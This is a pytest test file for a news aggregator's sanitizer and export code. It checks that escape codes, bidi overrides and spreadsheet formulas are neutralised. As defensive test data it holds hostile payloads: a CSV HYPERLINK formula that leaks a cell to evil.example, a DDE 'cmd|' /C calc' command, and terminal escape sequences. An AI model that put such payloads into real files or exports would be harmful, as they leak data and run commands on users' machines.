"""Hostile text on its way out: controls and bidi overrides never stored, formulas never run by a spreadsheet,
exports never left half-written, absurd field sizes capped."""

from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from newsagg.coverage import iter_story_documents
from newsagg.export import export
from newsagg.sanitize import LIST_MAX_ITEMS, clean_line, sanitize_article, spreadsheet_safe, visible_controls
from newsagg.storage.sqlite import SQLiteStore
from newsagg.stories import StoryClusterer
from tests.factories import T0, article

pytestmark = pytest.mark.reliability

ESC = "\x1b"
TERMINAL_ATTACKS = f"{ESC}[2J{ESC}]0;pwned\x07{ESC}]8;;http://evil.example/\x07click{ESC}]8;;\x07 Budget\x9b31m vote"
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Budget")',
    "author": "@SUM(1+9)*cmd|' /C calc'!A0",
    "label": "+1+2",
}


def test_controls_and_bidi_overrides_are_removed_from_stored_fields() -> None:
    fields: dict[str, object] = {
        "title": TERMINAL_ATTACKS + " \u202eevil\u202c",
        "text": f"First paragraph.\n\nSecond{ESC}[31m one\twith a tab.\r\nThird.",
        "authors": [f"Ana{ESC}[5m Pérez", "\u2067Omar\u2069", "", None],
    }
    assert sanitize_article(fields) == []
    title = str(fields["title"])
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in title)
    assert "\u202e" not in title and "Budget" in title and "vote" in title
    # the body keeps its paragraphs and tabs, loses the escape
    assert fields["text"] == "First paragraph.\n\nSecond[31m one\twith a tab.\nThird."
    assert fields["authors"] == ["Ana[5m Pérez", "Omar"]


def test_absurd_sizes_are_capped_with_a_note() -> None:
    fields: dict[str, object] = {"title": "x" * 1_000_000, "authors": [f"Author {n}" for n in range(100_000)]}
    notes = sanitize_article(fields)
    assert len(str(fields["title"])) == 1_000
    assert fields["authors"] == [f"Author {n}" for n in range(LIST_MAX_ITEMS["authors"])]
    assert notes == ["title capped: 1000000 -> 1000 characters", "authors capped: 100000 -> 20 entries"]


def test_bidi_controls_are_shown_not_obeyed() -> None:
    assert visible_controls("abc\u202edef") == "abc<U+202E>def"
    assert clean_line("a\u2066b\u2069c") == "abc"
    # marks that Arabic and Hebrew text need are not controls to remove
    assert clean_line("\u05e9\u200f\u05dc") == "\u05e9\u200f\u05dc"


def test_spreadsheet_formulas_are_neutralized() -> None:
    for value in FORMULAS.values():
        assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe("Budget vote") == "Budget vote"
    assert spreadsheet_safe(0.93) == 0.93


def _hostile_store(path: Path, count: int = 2) -> SQLiteStore:
    store = SQLiteStore(path)
    text = "El presupuesto de la región fue votado por el congreso regional de Valparaíso. " * 6
    store.upsert_articles(
        [
            article(
                f"a{n}",
                title=FORMULAS["title"] if n == 0 else f"Presupuesto {n} \u202eevil",
                authors=[FORMULAS["author"]],
                text=text + f" Nota {n}.",
                published_utc=T0 + n,
            )
            for n in range(count)
        ]
    )
    clusterer = StoryClusterer(store)
    for item in store.iter_articles():
        clusterer.assign(item)
    return store


def test_csv_export_cells_cannot_run_as_formulas(tmp_path: Path) -> None:
    with _hostile_store(tmp_path / "s.sqlite") as store:
        export(iter_story_documents(store), "csv", tmp_path / "out.csv")
    rows = list(csv.DictReader((tmp_path / "out.csv").open(encoding="utf-8")))
    titles = {r["title"] for r in rows}
    assert "'" + FORMULAS["title"] in titles
    assert {r["authors"] for r in rows} == {"'" + FORMULAS["author"]}
    for row in rows:
        assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())


def test_html_report_shows_bidi_overrides_escaped(tmp_path: Path) -> None:
    with _hostile_store(tmp_path / "s.sqlite") as store:
        export(iter_story_documents(store), "html", tmp_path / "report.html")
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "\u202e" not in html and "&lt;U+202E&gt;" in html


def test_failed_export_keeps_the_previous_file(tmp_path: Path) -> None:
    target = tmp_path / "report.json"
    with _hostile_store(tmp_path / "s.sqlite") as store:
        export(iter_story_documents(store), "json", target)
        good = target.read_bytes()

        def broken():  # type: ignore[no-untyped-def]
            yield from iter_story_documents(store)
            raise OSError("disk went away")

        with pytest.raises(OSError):
            export(broken(), "ndjson", target)
    assert target.read_bytes() == good
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json", "s.sqlite"]


def test_sigkill_during_export_keeps_the_previous_file(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    _hostile_store(home / "newsagg.sqlite", count=300).close()
    target = tmp_path / "report.ndjson"
    target.write_text("previous good export\n", encoding="utf-8")
    command = [sys.executable, "-m", "newsagg.cli", "export", "--format", "ndjson", "--output", str(target)]
    process = subprocess.Popen([*command, "--home", str(home)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while not list(tmp_path.glob(".report.ndjson.*.partial")) and process.poll() is None:
            assert time.monotonic() < deadline, "export never started writing"
            time.sleep(0.005)
        os.kill(process.pid, signal.SIGKILL)
    finally:
        process.wait()
    if process.returncode == -signal.SIGKILL:
        assert target.read_text(encoding="utf-8") == "previous good export\n"
    else:  # finished before the kill landed: then the new export is whole
        assert process.returncode == 0 and target.read_text(encoding="utf-8").count("\n") >= 1


def test_tables_show_controls_left_in_older_data(tmp_path: Path) -> None:
    from tests.support.crawl import run_cli

    # written straight into the store, as a build without sanitizing would have: the table must not obey it
    with _hostile_store(tmp_path / "newsagg.sqlite") as store:
        store.upsert_articles([article("old", title=f"Old {ESC}[2J title \u202eevil", published_utc=T0 - 60)])
    shown = run_cli(
        "search", "presupuesto OR Old", "--limit", "50", home=tmp_path, env={**os.environ, "COLUMNS": "400"}
    )
    assert shown.returncode == 0, shown.stderr
    assert "\u202e" not in shown.stdout and ESC not in shown.stdout
    assert "<U+202E>" in shown.stdout and "<U+001B>" in shown.stdout
